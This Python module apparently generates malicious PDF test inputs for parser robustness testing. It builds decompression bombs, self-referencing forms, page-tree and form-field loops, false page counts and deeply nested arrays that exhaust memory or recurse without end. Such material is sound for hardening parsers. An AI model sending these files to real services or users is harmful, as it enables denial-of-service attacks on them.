"""PDFs made to do harm: small files that unfold, loop, or stand for more than they are."""

from __future__ import annotations

import zlib


def pdf(*objects: bytes, root: int = 1) -> bytes:
    """A file of numbered objects, with its cross-reference table."""
    data, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    start = len(data)
    size = len(objects) + 1
    return data + b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        size,
        table,
        size,
        root,
        start,
    )


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), extra, data)


def _page(contents: bytes, resources: bytes = b"<< >>", box: bytes = b"[0 0 595 842]") -> tuple[bytes, ...]:
    return (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox %b /Contents 4 0 R /Resources %b >>" % (box, resources),
        contents,
    )


def flate_bomb(size: int = 200_000_000) -> bytes:
    return pdf(*_page(stream(_zeros(size), b"/Filter /FlateDecode")))


def double_bomb(size: int = 300_000_000) -> bytes:
    twice = zlib.compress(_zeros(size), 9)
    return pdf(*_page(stream(twice, b"/Filter [/FlateDecode /FlateDecode]")))


def _zeros(size: int) -> bytes:
    packer, chunk = zlib.compressobj(9), bytes(1_000_000)
    return b"".join(packer.compress(chunk) for _ in range(size // len(chunk))) + packer.flush()


def nested_forms(width: int = 12, depth: int = 8) -> bytes:
    """Forms that draw forms: a few objects, width ** depth drawings."""
    objects = list(_page(stream(b"/F5 Do"), b"<< /XObject << /F5 5 0 R >> >>"))
    for level in range(depth):
        number = 6 + level
        inner = b"BT ET" if level == depth - 1 else b"/N Do " * width
        resources = b"" if level == depth - 1 else b"/Resources << /XObject << /N %d 0 R >> >>" % number
        objects.append(stream(inner, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + resources))
    return pdf(*objects)


def form_that_draws_itself() -> bytes:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /S 5 0 R >> >>"
    return pdf(*_page(stream(b"/S Do"), b"<< /XObject << /S 5 0 R >> >>"), stream(b"/S Do /S Do", form))


def huge_box() -> bytes:
    return pdf(*_page(stream(b""), box=b"[0 0 200000 200000]"))


def many_pages(count: int = 5000) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + index) for index in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count),
        *([page] * count),
    )


def false_count() -> bytes:
    return pdf(*_page(stream(b""))).replace(b"/Count 1", b"/Count 99999999")


def page_tree_loop() -> bytes:
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
    )


def field_parent_loop() -> bytes:
    """A widget whose field is its own parent."""
    widget = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ico) /V (1) /Rect [9 9 99 29] /Parent 5 0 R >>"
    return pdf(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] /Contents 4 0 R >>",
        stream(b""),
        widget.replace(b"/Parent", b"/Kids [5 0 R] /Parent"),
    )


def many_glyphs(count: int = 200_000) -> bytes:
    text = b"BT /F 9 Tf 10 10 Td (" + b"a" * count + b") Tj ET"
    font = b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    return pdf(*_page(stream(zlib.compress(text), b"/Filter /FlateDecode"), font))


def deep_arrays(depth: int = 20_000) -> bytes:
    return pdf(*_page(stream(b"[" * depth + b"]" * depth + b" TJ")))
